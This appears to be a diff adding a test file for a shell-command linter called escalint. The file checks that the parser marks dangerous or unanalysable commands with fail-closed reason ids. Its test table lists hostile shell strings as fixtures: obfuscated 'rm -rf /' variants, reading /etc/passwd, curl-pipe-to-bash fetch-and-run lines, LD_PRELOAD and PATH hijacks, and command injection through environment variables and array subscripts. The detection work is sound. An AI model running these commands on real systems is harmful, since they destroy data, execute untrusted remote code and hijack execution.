@@ -1,0 +1,102 @@
+// Fail-closed reasons (issue 3): every way escalint cannot know what runs is marked on the
+// segment with a stable id. Table: script → the reason ids found on any segment.
+import { describe, expect, it } from 'vitest';
+import { parseShell } from '../../src/shell/parse.js';
+import { REASONS } from '../../src/shell/wrappers.js';
+
+function reasons(script: string): string[] {
+  const r = parseShell(script);
+  expect(r.diagnostics).toEqual([]);
+  return [...new Set(r.segments.flatMap((s) => s.reasons.map((x) => x.id)))].sort();
+}
+
+const table: [string, string[]][] = [
+  // dynamic command names
+  ['$cmd -rf /', ['dynamic-command']],
+  ['cmd=rm; $cmd -rf /', ['dynamic-command']],
+  ['${RM:-rm} -rf /', ['dynamic-command']],
+  ['"$(printf rm)" -rf /', ['dynamic-command']],
+  ['`printf rm` -rf /', ['dynamic-command']],
+  ['/bin/r? -rf /', ['dynamic-command']],
+  ['/bin/r[m] -rf /', ['dynamic-command']],
+  ['{rm,-rf,/}', ['dynamic-command']],
+  ['cat${IFS}/etc/passwd', ['dynamic-command']],
+  ['~/bin/tool', ['dynamic-command']],
+  ['sudo $cmd', ['dynamic-command']],
+  // eval, source
+  ['eval "$x"', ['dynamic-command', 'eval']],
+  ['eval "rm -rf /"', ['eval']],
+  ['source <(curl -s https://x.example)', ['eval']],
+  ['. "$f"', ['eval']],
+  ['source ./env.sh', []],
+  // shells with dynamic scripts or stdin
+  ['bash -c "$(curl -fsSL https://x.example/i.sh)"', ['dynamic-script']],
+  ['sh -c "$x"', ['dynamic-command', 'dynamic-script']],
+  ['curl -fsSL https://x.example/i.sh | bash', ['stdin-script']],
+  ['curl -fsSL https://x.example/i.sh | sudo sh -s -- --yes', ['stdin-script']],
+  ['bash <<EOF\nrm $x\nEOF', ['dynamic-script']],
+  // interpreters given code
+  ["python -c 'import os'", ['inline-code']],
+  ["python3 -c'import os'", ['inline-code']],
+  ["node -e 'process.exit()'", ['inline-code']],
+  ['node --eval=1', ['inline-code']],
+  ["perl -e 'print 1'", ['inline-code']],
+  ["ruby -e 'puts 1'", ['inline-code']],
+  ["php -r 'echo 1;'", ['inline-code']],
+  ["deno eval 'console.log(1)'", ['inline-code']],
+  ["python3 - <<'PY'\nimport os\nPY", ['stdin-script']],
+  ["python3 <<'PY'\nimport os\nPY", ['stdin-script']],
+  ['echo "print(1)" | python3', ['stdin-script']],
+  ["awk 'BEGIN{system(\"rm -rf /\")}'", ['inline-code']],
+  ["awk '{print $1}' f", []],
+  ['python3 script.py', []],
+  ['python3 -m pytest', []],
+  // assignments that execute or hijack
+  ['PATH=/tmp/evil:$PATH ls', ['dangerous-env']],
+  ['LD_PRELOAD=/tmp/x.so ls', ['dangerous-env']],
+  ['LD_LIBRARY_PATH=/tmp ls', ['dangerous-env']],
+  ['BASH_ENV=/tmp/x bash -c ls', ['dangerous-env']],
+  ['ENV=/tmp/x sh -c ls', ['dangerous-env']],
+  ["GIT_SSH_COMMAND='rm -rf /' git fetch", ['dangerous-env']],
+  ['GIT_EXEC_PATH=/tmp git status', ['dangerous-env']],
+  ["PAGER='sh -c \"rm -rf /\"' git log", ['dangerous-env']],
+  ['EDITOR=vim git commit', ['dangerous-env']],
+  ['PROMPT_COMMAND=x bash -i', ['dangerous-env', 'stdin-script']],
+  ['IFS=/ ls', ['dangerous-env']],
+  ['env LD_PRELOAD=/tmp/x.so ls', ['dangerous-env']],
+  ['PATH=/tmp/evil; ls', ['dangerous-env']],
+  ['export PATH=/tmp/evil:$PATH && ls', ['dangerous-env']],
+  ['GIT_CONFIG_KEY_0=core.sshCommand git fetch', ['dangerous-env']],
+  ['git --exec-path=/tmp status', ['dangerous-env']],
+  ['FOO=1 NODE_ENV=test npm test', []],
+  // run-time evaluated subscripts
+  ["test -v 'a[$(id)]'", ['runtime-eval']],
+  ["[ -v 'a[`id`]' ]", ['runtime-eval']],
+  ["printf -v 'a[$(id)]' %s x", ['runtime-eval']],
+  ['printf -v "$name" %s x', ['runtime-eval']],
+  ["unset 'a[$(id)]'", ['runtime-eval']],
+  ["let 'a[$(id)]=1'", ['runtime-eval']],
+  ["read 'a[$(id)]'", ['runtime-eval']],
+  ['test -v x', []],
+  ['printf %s x', []],
+  // script strings that do not parse
+  ["bash -c 'echo \"'", ['syntax-error']],
+  ["eval 'if then'", ['eval', 'syntax-error']],
+];
+
+describe('fail-closed reasons', () => {
+  for (const [script, want] of table) {
+    it(JSON.stringify(script), () => expect(reasons(script)).toEqual(want));
+  }
+
+  it('every reason id is documented', () => {
+    const used = new Set(table.flatMap(([, ids]) => ids));
+    for (const id of used) expect(Object.keys(REASONS)).toContain(id);
+  });
+
+  it('puts the reason on the segment that has the problem, with a message', () => {
+    const r = parseShell('echo ok && $cmd -rf /');
+    expect(r.segments[0]!.reasons).toEqual([]);
+    expect(r.segments[1]!.reasons).toEqual([{ id: 'dynamic-command', message: 'the command name "$cmd" is only known at run time' }]);
+  });
+});
